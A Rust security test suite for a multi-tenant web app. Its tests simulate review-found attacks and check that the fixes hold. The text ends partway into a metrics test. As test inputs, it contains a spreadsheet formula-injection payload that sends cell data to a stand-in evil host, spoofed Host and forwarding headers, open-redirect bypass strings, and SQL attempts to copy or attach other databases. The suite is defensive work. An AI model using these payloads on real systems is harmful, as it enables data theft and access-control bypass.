//! The security suite: each test is one hole found in review, probed the way an attacker would
//! (a real server on port 0 over real files), and fails without its fix. The numbers refer to
//! the items of the security issue; the workspace-host journey in Chromium is in `browser.rs`.

use silo_backups::BackupsExt;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::Duration;

use silo_accounts::{By, Role, TokenScope};
use silo_core::db;
use silo_core::{Clock, TenantRef};
use silo_e2e::{ApiClient, PASSWORD, TestServer, csrf_of, files_containing};
use silo_web::settings::{Secret, TrustedProxies};
use silo_web::startup::Application;

/// An account that owns workspace `slug`, made directly (no sign-up flow).
async fn owner(server: &TestServer, email: &str, slug: &str) {
    server.accounts.users().create(email, PASSWORD, None, "test").await.unwrap();
    let request = silo_tenancy::CreateTenant::with_slug(slug);
    server.tenancy.tenants().create(request, "test").await.unwrap();
    server.accounts.memberships().add(&slug.parse().unwrap(), email, Role::Owner, "test").await.unwrap();
}

// 1. Password-reset link poisoning.
#[tokio::test]
async fn emailed_links_never_come_from_request_headers() {
    let server = TestServer::start().await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let origin = format!("http://{}/", server.addr);
    let attacker = server.visitor();
    let token = attacker.csrf("/password/forgot").await.unwrap();
    let poisoned = attacker
        .send(
            attacker
                .request(reqwest::Method::POST, "/password/forgot")
                .header("Host", "evil.example")
                .header("X-Forwarded-Host", "evil2.example")
                .header("Forwarded", "host=evil3.example;proto=https")
                .form(&[("csrf", token.as_str()), ("email", "ada@example.com")]),
        )
        .await
        .unwrap();
    assert_eq!(poisoned.status, 200);
    let email = server.last_email("ada@example.com").await.unwrap();
    let link = email.split_whitespace().find(|w| w.contains("/password/reset/")).unwrap();
    assert!(link.starts_with(&format!("{origin}password/reset/rst_")), "{link}");
    assert!(!email.contains("evil"), "{email}");

    // Invitations too.
    let ada = server.sign_in("ada@example.com").await.unwrap();
    let token = ada.csrf("/w/acme/members").await.unwrap();
    let invited = ada
        .send(
            ada.request(reqwest::Method::POST, "/w/acme/members/invite")
                .header("X-Forwarded-Host", "evil.example")
                .form(&[("csrf", token.as_str()), ("email", "bob@example.com"), ("role", "member")]),
        )
        .await
        .unwrap();
    assert_eq!(invited.status, 303);
    let email = server.last_email("bob@example.com").await.unwrap();
    assert!(email.contains(&format!("{origin}invitations/inv_")) && !email.contains("evil"), "{email}");
    server.stop().await.unwrap();
}

#[tokio::test]
async fn a_public_bind_without_public_url_refuses_to_start() {
    let dir = tempfile::tempdir().unwrap();
    let public = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let settings = silo_web::settings::Settings::for_data_dir(dir.path());
    let refused = Application::build_on(settings, public).await.err().expect("refused").to_string();
    assert!(refused.contains("server.public_url"), "{refused}");
    let mut settings = silo_web::settings::Settings::for_data_dir(dir.path());
    settings.server.public_url = Some("https://silo.example.com".into());
    let public = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
    let application = Application::build_on(settings, public).await.expect("starts with a public URL");
    let handle = application.handle();
    let running = tokio::spawn(application.run_until_stopped());
    handle.stop().await;
    running.await.unwrap().unwrap();
}

// 2. The login throttle race and hashing exhaustion; per-client throttles on sign-up paths.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_burst_of_guesses_gets_only_the_allowed_number_checked() {
    let server = TestServer::start().await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let visitor = Arc::new(server.visitor());
    let token = visitor.csrf("/login").await.unwrap();
    let guesses = (0..200).map(|i| {
        let visitor = visitor.clone();
        let token = token.clone();
        async move {
            let guess = format!("wrong password {i}");
            let fields =
                [("csrf", token.as_str()), ("email", "ada@example.com"), ("password", guess.as_str())];
            visitor.post("/login", &fields).await.unwrap().status
        }
    });
    let statuses = futures::future::join_all(guesses).await;
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let refused = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!(checked, 5, "only the account's 5 attempts were checked: {statuses:?}");
    assert_eq!(refused, 195);
    assert_eq!(server.accounts.hashing().available(), std::thread::available_parallelism().unwrap().get());
    server.stop().await.unwrap();
}

#[tokio::test]
async fn sign_ups_resets_and_invitation_sign_ups_are_throttled_per_client() {
    let server = TestServer::start_with(|s| s.server.signups_per_client_hour = 3).await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let invitation = invite_bob_to_acme(&server).await;
    let visitor = server.visitor();
    for i in 0..3 {
        let email = format!("new{i}@example.com");
        let slug = format!("new-{i}");
        let fields =
            [("email", email.as_str()), ("password", PASSWORD), ("workspace", "W"), ("slug", slug.as_str())];
        assert_eq!(visitor.submit("/signup", "/signup", &fields).await.unwrap().status, 200);
    }
    let fields =
        [("email", "new9@example.com"), ("password", PASSWORD), ("workspace", "W"), ("slug", "new-9")];
    let throttled = visitor.submit("/signup", "/signup", &fields).await.unwrap();
    assert_eq!(throttled.status, 429, "{}", throttled.body);
    assert!(throttled.headers.get("retry-after").is_some());
    let page = format!("/invitations/{invitation}");
    let join = visitor.submit(&page, &format!("{page}/signup"), &[("password", PASSWORD)]).await.unwrap();
    assert_eq!(join.status, 429, "the invitation sign-up counts against the same client");
    assert!(server.accounts.users().by_email("bob@example.com").await.is_err());

    // Password resets: after 3 emails to one address, silence (same page, no more mail).
    for _ in 0..5 {
        let sent =
            visitor.submit("/password/forgot", "/password/forgot", &[("email", "ada@example.com")]).await;
        assert_eq!(sent.unwrap().status, 200);
    }
    let resets = server.accounts.outbox().list(Some("ada@example.com"), 50).await.unwrap();
    assert_eq!(resets.iter().filter(|e| e.subject.contains("Reset")).count(), 3);
    server.stop().await.unwrap();
}

// 3. Open redirect after sign-in.
#[tokio::test]
async fn sign_in_returns_only_to_local_paths() {
    let server = TestServer::start().await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    for next in [
        "/\t/evil.example",
        "/\n/evil.example",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example",
        "/ /evil",
    ] {
        let visitor = server.visitor();
        let fields = [("email", "ada@example.com"), ("password", PASSWORD), ("next", next)];
        let response = visitor.submit("/login", "/login", &fields).await.unwrap();
        assert_eq!((response.status, response.location.as_deref()), (303, Some("/")), "{next:?}");
    }
    let form = server.visitor().get("/login?next=/%09/evil.example").await.unwrap();
    assert!(form.body.contains(r#"name="next" value="&#x2F;""#), "{}", form.body);
    let visitor = server.visitor();
    let fields = [("email", "ada@example.com"), ("password", PASSWORD), ("next", "/w/acme/members")];
    let local = visitor.submit("/login", "/login", &fields).await.unwrap();
    assert_eq!(local.location.as_deref(), Some("/w/acme/members"));
    server.stop().await.unwrap();
}

// 4. Account enumeration through sign-up.
#[tokio::test]
async fn sign_up_does_not_tell_whether_an_address_has_an_account() {
    let server = TestServer::start().await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let answer = |email: &'static str, slug: &'static str| {
        let visitor = server.visitor();
        async move {
            let fields =
                [("email", email), ("name", "N"), ("password", PASSWORD), ("workspace", "W"), ("slug", slug)];
            let response = visitor.submit("/signup", "/signup", &fields).await.unwrap();
            let body = match csrf_of(&response.body) {
                Some(token) => response.body.replace(&token, "TOKEN"),
                None => response.body.clone(),
            };
            (response.status, body.replace(email, "EMAIL"))
        }
    };
    let known = answer("ada@example.com", "taken-or-not").await;
    let new = answer("carol@example.com", "taken-or-not").await;
    assert_eq!(known, new, "the same page for a known and a new address");
    assert_eq!(known.0, 200);
    assert!(known.1.contains("Check your email") && known.1.contains("output of <code>silo serve</code>"));

    // The owner of the known address is told; nothing was created for either.
    let notice = server.last_email("ada@example.com").await.unwrap();
    assert!(notice.contains("already has an account") && !notice.contains("/signup/confirm/"), "{notice}");
    assert!(
        server.accounts.users().by_email("carol@example.com").await.is_err(),
        "no account before confirmation"
    );
    assert!(server.tenancy.tenant(&"taken-or-not".parse().unwrap()).await.is_err(), "no workspace either");
    let stranger = server.visitor();
    let early =
        stranger.submit("/login", "/login", &[("email", "carol@example.com"), ("password", PASSWORD)]);
    assert_eq!(early.await.unwrap().status, 401, "no sign-in before the address is confirmed");

    // The confirmation link creates account and workspace once.
    let link = server.link_in_last_email("carol@example.com", "/signup/confirm/").await.unwrap();
    let carol = server.visitor();
    let made =
        carol.submit(&link, &link, &[("workspace", "Carol's"), ("slug", "taken-or-not")]).await.unwrap();
    assert_eq!((made.status, made.location.as_deref()), (303, Some("/w/taken-or-not/")), "{}", made.body);
    assert_eq!(carol.get("/w/taken-or-not/").await.unwrap().status, 200);
    assert_eq!(server.visitor().get(&link).await.unwrap().status, 404, "the link works once");
    server.stop().await.unwrap();
}

// 5. The client address behind a proxy.
#[tokio::test]
async fn the_client_is_the_address_the_trusted_proxy_saw() {
    let server = TestServer::start_with(|s| {
        s.server.trusted_proxies = TrustedProxies::Hops(1);
        s.server.login_failures_per_client = 3;
    })
    .await
    .unwrap();
    let visitor = server.visitor();
    let attempt = |n: usize, forwarded: String| {
        let visitor = &visitor;
        async move {
            let token = visitor.csrf("/login").await.unwrap();
            let email = format!("guess{n}@example.com");
            let fields =
                [("csrf", token.as_str()), ("email", email.as_str()), ("password", "wrong password")];
            let request = visitor
                .request(reqwest::Method::POST, "/login")
                .header("X-Forwarded-For", forwarded)
                .form(&fields);
            visitor.send(request).await.unwrap().status
        }
    };
    // Whatever the client writes on the left, the proxy's entry (rightmost) is the client.
    for n in 0..3 {
        assert_eq!(attempt(n, format!("6.6.6.{n}, 198.51.100.7")).await, 401);
    }
    assert_eq!(attempt(3, "9.9.9.9, 198.51.100.7".into()).await, 429, "spoofed left entries do not help");
    assert_eq!(attempt(4, "6.6.6.6, 198.51.100.8".into()).await, 401, "another client has its own count");
    server.stop().await.unwrap();
}

// 6. Crypto-shredding leaves no key bytes on disk.
#[tokio::test]
async fn a_purge_leaves_no_copy_of_the_data_key_on_disk() {
    let server = TestServer::start().await.unwrap();
    let api = ApiClient::new(server.addr, Some(&server.operator_token("ops@example.com").await.unwrap()));
    assert_eq!(
        api.call("POST", "/tenants", Some(serde_json::json!({ "slug": "acme" }))).await.unwrap().0,
        201
    );
    let acme = server.tenancy.tenant(&"acme".parse().unwrap()).await.unwrap();
    server
        .tenancy
        .backups()
        .create(&TenantRef::Id(acme.id), silo_backups::BackupKind::Manual, "test")
        .await
        .unwrap();
    let wrapped: Vec<u8> = db::query_scalar("SELECT wrapped FROM tenant_keys WHERE tenant_id = ?")
        .bind(acme.id.to_string())
        .fetch_one(server.tenancy.control().reader())
        .await
        .unwrap();
    let data_dir = server.tenancy.settings().data_dir.clone();
    // What the control plane stores (control.db's bytes, or PostgreSQL's rows as text, where
    // the key is hex) holds the key until the purge.
    let control = server.tenancy.control().reader();
    let holds_key = |stored: &[u8]| {
        let hex = silo_core::tokens::hex(&wrapped);
        stored.windows(wrapped.len()).any(|w| w == wrapped)
            || stored.windows(hex.len()).any(|w| w == hex.as_bytes())
    };
    assert!(
        holds_key(&db::testing::stored_bytes(control, &data_dir).await),
        "the scan finds the key before the purge"
    );
    assert_eq!(api.call("DELETE", "/tenants/acme", None).await.unwrap().0, 200);
    let (status, body) = api.call("DELETE", "/tenants/acme?purge=true", None).await.unwrap();
    assert_eq!(status, 200, "{body}");
    assert_eq!(files_containing(&data_dir, &wrapped), Vec::<PathBuf>::new(), "no file keeps the wrapped key");
    assert!(
        !holds_key(&db::testing::stored_bytes(control, &data_dir).await),
        "the control plane keeps no copy"
    );
    server.stop().await.unwrap();
}

// 7. No usable link at rest in the outbox.
#[tokio::test]
async fn a_copy_of_control_db_holds_no_link_that_works() {
    let (port, received) = silo_e2e::smtp::smtp_server(false).await;
    let server = TestServer::start_with(|s| s.smtp = silo_e2e::smtp::settings(port)).await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let visitor = server.visitor();
    visitor.submit("/password/forgot", "/password/forgot", &[("email", "ada@example.com")]).await.unwrap();
    let signup =
        [("email", "carol@example.com"), ("password", PASSWORD), ("workspace", "C"), ("slug", "carol")];
    visitor.submit("/signup", "/signup", &signup).await.unwrap();
    let invitation = invite_bob_to_acme(&server).await;
    let reset = server.link_in_last_email("ada@example.com", "/password/reset/").await.unwrap();
    let confirm = server.link_in_last_email("carol@example.com", "/signup/confirm/").await.unwrap();
    let secrets = [
        reset.trim_start_matches("/password/reset/").to_owned(),
        confirm.trim_start_matches("/signup/confirm/").to_owned(),
        invitation,
    ];

    // What the control plane stores (the file and its WAL, or every row on PostgreSQL): what
    // a copy of it would hold.
    let control = server.tenancy.control().reader();
    let data_dir = server.tenancy.settings().data_dir.clone();
    let copy_and_scan = async |when: &str| {
        let stored = db::testing::stored_bytes(control, &data_dir).await;
        for secret in &secrets {
            assert!(!stored.windows(secret.len()).any(|w| w == secret.as_bytes()), "{when}: {secret} stored");
        }
        let bodies: Vec<String> =
            db::query_scalar("SELECT body FROM outbox").fetch_all(control).await.unwrap();
        for marker in ["/password/reset/", "/signup/confirm/", "/invitations/"] {
            assert!(!bodies.iter().any(|b| b.contains(marker)), "{when}: a {marker} link in a stored body");
        }
        db::query_scalar::<i64>("SELECT count(*) FROM outbox WHERE link_sealed IS NOT NULL")
            .fetch_one(control)
            .await
            .unwrap()
    };
    assert_eq!(copy_and_scan("before sending").await, 3, "links are sealed while unsent");

    let mailer =
        silo_accounts::outbox::Mailer::from_settings(&silo_e2e::smtp::settings(port)).unwrap().unwrap();
    let delivery = server.accounts.outbox().deliver(&mailer, 50).await.unwrap();
    assert_eq!(delivery.sent, 3);
    // Quoted-printable folds long lines with a trailing `=`.
    let messages = received.lock().unwrap().join("\n").replace("=\n", "");
    for secret in &secrets {
        assert!(messages.contains(secret.as_str()), "the email itself carried the link");
    }
    assert_eq!(copy_and_scan("after sending").await, 0, "sent: the sealed links are gone");
    let gone = server.last_email("ada@example.com").await.unwrap();
    assert!(gone.contains("link no longer available"), "{gone}");
    server.stop().await.unwrap();
}

/// Ada (owner of acme) invites bob as a member; the invitation link's secret.
async fn invite_bob_to_acme(server: &TestServer) -> String {
    let acme = server.tenancy.tenant(&"acme".parse().unwrap()).await.unwrap();
    let ada = server.accounts.users().by_email("ada@example.com").await.unwrap();
    let invitations = server.accounts.invitations();
    invitations.create(&acme, "bob@example.com", Role::Member, &ada, "http://x", None).await.unwrap().1
}

// 8. Invitations cannot outlive membership or change roles; the last owner stays.
#[tokio::test]
async fn invitations_cannot_outlive_membership_or_change_roles() {
    let server = TestServer::start().await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let t = &server.tenancy;
    let a = &server.accounts;
    let acme = t.tenant(&"acme".parse().unwrap()).await.unwrap();
    let acme_ref = TenantRef::Id(acme.id);
    let ada = a.users().by_email("ada@example.com").await.unwrap();
    for who in ["bob", "carol", "dave", "erin"] {
        a.users().create(&format!("{who}@example.com"), PASSWORD, None, "test").await.unwrap();
    }
    let bob = a.users().by_email("bob@example.com").await.unwrap();

    // Invited as admin, then added as a member another way: the admin link is revoked.
    let (_, as_admin) =
        a.invitations().create(&acme, "bob@example.com", Role::Admin, &ada, "http://x", None).await.unwrap();
    a.memberships().add(&acme_ref, "bob@example.com", Role::Member, "test").await.unwrap();
    assert!(
        a.invitations().find(&as_admin).await.unwrap().is_none(),
        "joining revokes the address's invitations"
    );
    assert!(a.invitations().accept(&as_admin, &bob).await.is_err());
    assert_eq!(a.memberships().role(acme.id, &bob.id).await.unwrap(), Some(Role::Member));

    // Removed members cannot come back through an old link.
    a.memberships().remove(&acme, &bob.id, By::Operator("test")).await.unwrap();
    let (_, again) =
        a.invitations().create(&acme, "bob@example.com", Role::Member, &ada, "http://x", None).await.unwrap();
    a.memberships().add(&acme_ref, "bob@example.com", Role::Member, "test").await.unwrap();
    a.memberships().remove(&acme, &bob.id, By::Operator("test")).await.unwrap();
    assert!(a.invitations().accept(&again, &bob).await.is_err(), "removal revoked it");
    assert_eq!(a.memberships().role(acme.id, &bob.id).await.unwrap(), None);

    // An inviter who loses the right to invite takes their pending invitations along.
    a.memberships().add(&acme_ref, "dave@example.com", Role::Admin, "test").await.unwrap();
    let dave = a.users().by_email("dave@example.com").await.unwrap();
    let (_, from_dave) = a
        .invitations()
        .create(&acme, "carol@example.com", Role::Admin, &dave, "http://x", None)
        .await
        .unwrap();
    a.memberships().change_role(&acme, &dave.id, Role::Member, By::Operator("test")).await.unwrap();
    assert!(
        a.invitations().find(&from_dave).await.unwrap().is_none(),
        "demoting dave revoked his invitation"
    );

    // Accepting as an existing member is refused (a join raced past the revocation).
    let erin = a.users().by_email("erin@example.com").await.unwrap();
    let (_, for_erin) =
        a.invitations().create(&acme, "erin@example.com", Role::Admin, &ada, "http://x", None).await.unwrap();
    db::query(
        "INSERT INTO memberships (user_id, tenant_id, role, created_at) VALUES (?, ?, 'member', 'now')",
    )
    .bind(erin.id.as_str())
    .bind(acme.id.to_string())
    .execute(server.tenancy.control().writer())
    .await
    .unwrap();
    let refused = a.invitations().accept(&for_erin, &erin).await.unwrap_err().to_string();
    assert!(refused.contains("already a member"), "{refused}");
    let role: String = db::query_scalar("SELECT role FROM memberships WHERE user_id = ?")
        .bind(erin.id.as_str())
        .fetch_one(server.tenancy.control().reader())
        .await
        .unwrap();
    assert_eq!(role, "member", "the invitation did not promote erin");

    // The last owner stays, on every path (CLI `member add` included), even under concurrency.
    let demoted = a.memberships().add(&acme_ref, "ada@example.com", Role::Member, "test").await;
    assert!(demoted.unwrap_err().to_string().contains("at least one owner"));
    assert!(a.memberships().remove(&acme, &ada.id, By::Operator("test")).await.is_err());
    a.memberships().add(&acme_ref, "bob@example.com", Role::Owner, "test").await.unwrap();
    let memberships = a.memberships();
    let (a, b) = tokio::join!(
        memberships.change_role(&acme, &ada.id, Role::Member, By::Operator("test")),
        memberships.change_role(&acme, &bob.id, Role::Member, By::Operator("test"))
    );
    assert_eq!(a.is_ok() as u8 + b.is_ok() as u8, 1, "exactly one of two concurrent demotions: {a:?} {b:?}");
    let owners: i64 =
        db::query_scalar("SELECT count(*) FROM memberships WHERE tenant_id = ? AND role = 'owner'")
            .bind(acme.id.to_string())
            .fetch_one(server.tenancy.control().reader())
            .await
            .unwrap();
    assert_eq!(owners, 1);
    server.stop().await.unwrap();
}

// 9. Revocation takes effect at once, even with lookups in flight.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn revocations_take_effect_at_once_under_concurrent_lookups() {
    let server = TestServer::start().await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let a = server.accounts.clone();
    let ada = a.users().by_email("ada@example.com").await.unwrap();
    let token = a
        .tokens()
        .issue("ada@example.com", TokenScope::Personal("acme".parse().unwrap()), "test")
        .await
        .unwrap();
    let session =
        a.sessions().create(&ada.id, "test", "127.0.0.1", Duration::from_secs(3600), None).await.unwrap();

    // Readers hammer the directory; after a revocation returns, no lookup that *starts* later
    // may still see the token or session.
    let revoked = Arc::new(AtomicBool::new(false));
    let stale = Arc::new(AtomicUsize::new(0));
    let lookups = Arc::new(AtomicUsize::new(0));
    let readers: Vec<_> = (0..8)
        .map(|i| {
            let (a, token, secret) = (a.clone(), token.clone(), session.secret.clone());
            let (revoked, stale, lookups) = (revoked.clone(), stale.clone(), lookups.clone());
            tokio::spawn(async move {
                let deadline = tokio::time::Instant::now() + Duration::from_millis(1500);
                while tokio::time::Instant::now() < deadline {
                    let after = revoked.load(Ordering::SeqCst);
                    let live = if i % 2 == 0 {
                        a.tokens().authenticate(&token).await.unwrap().is_some()
                    } else {
                        a.sessions().find(&secret).await.unwrap().is_some()
                    };
                    lookups.fetch_add(1, Ordering::Relaxed);
                    if after && live {
                        stale.fetch_add(1, Ordering::SeqCst);
                    }
                }
            })
        })
        .collect();
    tokio::time::sleep(Duration::from_millis(300)).await;
    let info = a.tokens().of_user(&ada.id).await.unwrap().remove(0);
    a.tokens().revoke(&ada.id, &info.id, "test").await.unwrap();
    a.sessions().revoke(&session.secret).await.unwrap();
    revoked.store(true, Ordering::SeqCst);
    for reader in readers {
        reader.await.unwrap();
    }
    assert!(lookups.load(Ordering::Relaxed) > 100, "the readers ran");
    assert_eq!(
        stale.load(Ordering::SeqCst),
        0,
        "a revoked token or session was accepted after its revocation"
    );
    server.stop().await.unwrap();
}

// 10. Session idle timeout, token expiry, and a reset that offers to revoke tokens.
#[tokio::test]
async fn idle_sessions_end_and_tokens_expire_or_go_with_a_reset() {
    // Time moves by hand: no row is back-dated.
    let clock = silo_core::TestClock::starting_now();
    let shared = silo_core::ProcessClock::new(clock.shared());
    let server = TestServer::start_with(move |s| s.fleet.clock = shared).await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    let a = &server.accounts;
    let ada = a.users().by_email("ada@example.com").await.unwrap();
    // A session last used two days ago (idle timeout: one day by default).
    let idle = a
        .sessions()
        .create(&ada.id, "test", "127.0.0.1", Duration::from_secs(14 * 86_400), None)
        .await
        .unwrap();
    clock.advance(Duration::from_secs(2 * 86_400));
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let with_cookie = |secret: String| {
        client.get(server.url("/account")).header("Cookie", format!("silo_session={secret}")).send()
    };
    assert_eq!(with_cookie(idle.secret.clone()).await.unwrap().status(), 303, "idle too long: signed out");
    let fresh =
        a.sessions().create(&ada.id, "test", "127.0.0.1", Duration::from_secs(3600), None).await.unwrap();
    assert_eq!(with_cookie(fresh.secret).await.unwrap().status(), 200);

    // Tokens may expire; the account page says when.
    let ada_web = server.sign_in("ada@example.com").await.unwrap();
    let made = ada_web
        .submit(
            "/account",
            "/account/tokens",
            &[("name", "expiring"), ("workspace", "acme"), ("expires_days", "30")],
        )
        .await
        .unwrap();
    let expiring = made.body.split("id=\"new-token\">").nth(1).unwrap().split('<').next().unwrap().to_owned();
    let expires_at = a.tokens().of_user(&ada.id).await.unwrap().remove(0).expires_at.expect("an expiry");
    assert!(expires_at > clock.now().plus(Duration::from_secs(29 * 86_400)), "{expires_at}");
    let account = ada_web.get("/account").await.unwrap();
    assert!(
        account.body.contains(&format!("datetime=\"{expires_at}\"")),
        "the account page shows the expiry"
    );
    let api = ApiClient::new(server.addr, Some(&expiring));
    assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 200);
    let short = a
        .tokens()
        .issue_expiring(
            "ada@example.com",
            TokenScope::Personal("acme".parse().unwrap()),
            "test",
            Some(Duration::from_secs(86_400)),
        )
        .await
        .unwrap();
    let expired = ApiClient::new(server.addr, Some(&short));
    assert_eq!(expired.call("GET", "/w/acme/tasks", None).await.unwrap().0, 200, "not yet");
    clock.advance(Duration::from_secs(2 * 86_400));
    assert_eq!(expired.call("GET", "/w/acme/tasks", None).await.unwrap().0, 401, "expired");
    assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 200, "the 30-day token works on");

    // A reset with the box ticked revokes every token; without it they keep working.
    let reset = |revoke: bool| {
        let server = &server;
        async move {
            let visitor = server.visitor();
            visitor
                .submit("/password/forgot", "/password/forgot", &[("email", "ada@example.com")])
                .await
                .unwrap();
            let link = server.link_in_last_email("ada@example.com", "/password/reset/").await.unwrap();
            let mut fields = vec![("password", "another good password")];
            if revoke {
                fields.push(("revoke_tokens", "on"));
            }
            assert_eq!(visitor.submit(&link, &link, &fields).await.unwrap().status, 303);
        }
    };
    reset(false).await;
    assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 200, "kept without the box");
    reset(true).await;
    assert_eq!(api.call("GET", "/w/acme/tasks", None).await.unwrap().0, 401, "revoked with the box");
    server.stop().await.unwrap();
}

// 11. `silo tenant sql` reads only the tenant's own main database.
#[tokio::test]
async fn operator_sql_reads_only_the_tenants_own_file() {
    let server = TestServer::start().await.unwrap();
    let t = &server.tenancy;
    for slug in ["acme", "other"] {
        t.tenants().create(silo_tenancy::CreateTenant::with_slug(slug), "test").await.unwrap();
    }
    let other = t.tenant(&"other".parse().unwrap()).await.unwrap();
    let other_path = t.tenant_path(&other).unwrap();
    let acme: TenantRef = "acme".parse().unwrap();
    let out = tempfile::tempdir().unwrap();
    let copy = out.path().join("x.db");
    let refused = [
        format!("VACUUM INTO '{}'", copy.display()),
        format!("ATTACH DATABASE '{}' AS o", other_path.display()),
        "PRAGMA journal_mode = DELETE".into(),
        "PRAGMA user_version = 7".into(),
        "DELETE FROM tasks".into(),
        "CREATE TEMP TABLE x (a)".into(),
        "SELECT 1; DELETE FROM tasks".into(),
        "BEGIN".into(),
    ];
    for sql in &refused {
        let error = t.queries().read_only(&acme, sql).await.unwrap_err();
        assert!(matches!(error, silo_tenancy::Error::WriteRefused(_)), "{sql}: {error}");
    }
    assert!(!copy.exists(), "VACUUM INTO wrote nothing");
    let counted = t.queries().read_only(&acme, "SELECT count(*) AS n FROM tasks").await.unwrap();
    assert_eq!(
        (counted.columns.clone(), counted.rows.clone()),
        (vec!["n".to_owned()], vec![vec![serde_json::json!(0)]])
    );
    assert!(!t.queries().read_only(&acme, "PRAGMA table_info(tasks)").await.unwrap().rows.is_empty());
    assert_eq!(t.queries().read_only(&acme, "PRAGMA user_version").await.unwrap().rows.len(), 1);
    server.stop().await.unwrap();
}

// 12. Tokens never reach the log.
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn captured_log() -> &'static Captured {
    static LOG: OnceLock<Captured> = OnceLock::new();
    LOG.get_or_init(|| {
        let log = Captured::default();
        let writer = log.clone();
        tracing_subscriber::fmt()
            .with_env_filter("info")
            .with_writer(move || writer.clone())
            .with_ansi(false)
            .try_init()
            .expect("the only subscriber of this test binary");
        log
    })
}

#[tokio::test]
async fn refused_forms_log_the_route_not_the_token() {
    let log = captured_log();
    let server = TestServer::start().await.unwrap();
    let secret = format!("rst_{}", "ab".repeat(32));
    let visitor = server.visitor();
    let refused = visitor.post(&format!("/password/reset/{secret}"), &[("password", "x")]).await.unwrap();
    assert_eq!(refused.status, 403);
    let text = String::from_utf8_lossy(&log.0.lock().unwrap()).into_owned();
    assert!(text.contains("form refused") && text.contains("/password/reset/{token}"), "{text}");
    assert!(!text.contains(&secret), "the token is in the log");
    server.stop().await.unwrap();
}

// 13. CSV formula injection in exports.
#[tokio::test]
async fn exported_csv_cells_do_not_run_as_formulas() {
    let server = TestServer::start().await.unwrap();
    let t = &server.tenancy;
    let acme = t.tenants().create(silo_tenancy::CreateTenant::with_slug("acme"), "test").await.unwrap();
    let db = t.db(acme.id).await.unwrap();
    let project = silo_workspace::projects::create(&db.turn().await, "P", "", None).unwrap();
    let title = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
    let task = silo_workspace::tasks::NewTask {
        project_id: project,
        title: title.into(),
        body: "-1+1".into(),
        status: None,
        assignee_id: None,
        due_date: None,
    };
    silo_workspace::tasks::create(&db.turn().await, &task, None).unwrap();
    drop(db);
    let out = tempfile::tempdir().unwrap();
    let zip_path = out.path().join("acme.zip");
    let manifest = t.exports().export(&"acme".parse().unwrap(), &zip_path, "test").await.unwrap();
    assert!(manifest.csv_formula_guard.contains("prefixed with '"));
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&zip_path).unwrap()).unwrap();
    let mut csv = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("tables/tasks.csv").unwrap(), &mut csv).unwrap();
    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#), "{csv}");
    assert!(csv.contains(",'-1+1,"), "{csv}");
    let mut json = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("tables/tasks.json").unwrap(), &mut json).unwrap();
    assert!(json.contains("\"=HYPERLINK("), "JSON keeps the text as it is");
    server.stop().await.unwrap();
}

// 14. No cookie downgrade over HTTPS.
#[tokio::test]
async fn over_https_only_the_host_prefixed_cookie_counts() {
    let server =
        TestServer::start_with(|s| s.server.public_url = Some("https://silo.example".into())).await.unwrap();
    owner(&server, "ada@example.com", "acme").await;
    // Secure cookies are handled by hand (the client speaks plain HTTP to the test server).
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let cookie_value = |response: &reqwest::Response, name: &str| {
        response.headers().get_all("set-cookie").iter().filter_map(|v| v.to_str().ok()).find_map(|c| {
            c.strip_prefix(&format!("{name}="))
                .map(|rest| rest.split(';').next().unwrap_or_default().to_owned())
        })
    };
    let form = client.get(server.url("/login")).send().await.unwrap();
    let csrf_cookie = cookie_value(&form, "silo_csrf").unwrap();
    let token = csrf_of(&form.text().await.unwrap()).unwrap();
    let signed_in = client
        .post(server.url("/login"))
        .header("Cookie", format!("silo_csrf={csrf_cookie}"))
        .form(&[("csrf", token.as_str()), ("email", "ada@example.com"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    assert_eq!(signed_in.status(), 303);
    assert!(cookie_value(&signed_in, "silo_session").is_none(), "no plain cookie over HTTPS");
    let secret = cookie_value(&signed_in, "__Host-silo_session").unwrap();
    let account = |cookie: String| client.get(server.url("/account")).header("Cookie", cookie).send();
    assert_eq!(account(format!("__Host-silo_session={secret}")).await.unwrap().status(), 200);
    assert_eq!(
        account(format!("silo_session={secret}")).await.unwrap().status(),
        303,
        "the plain name is ignored"
    );
    server.stop().await.unwrap();
}

// 15. `/metrics` is not open to anyone who can reach the port.
#[tokio::test]
async fn metrics_answer_only_whom_the_settings_allow() {
    let client = reqwest::Client::new();
    let status = |url: String, headers: Vec<(&'static str, &'static str)>| {
        let mut request = client.get(url);
        for (name, value) in headers {
            request = request.header(name, value);
        }
        async move { request.send().await.unwrap().status().as_u16() }
    };
    let local = TestServer::start().await.unwrap();
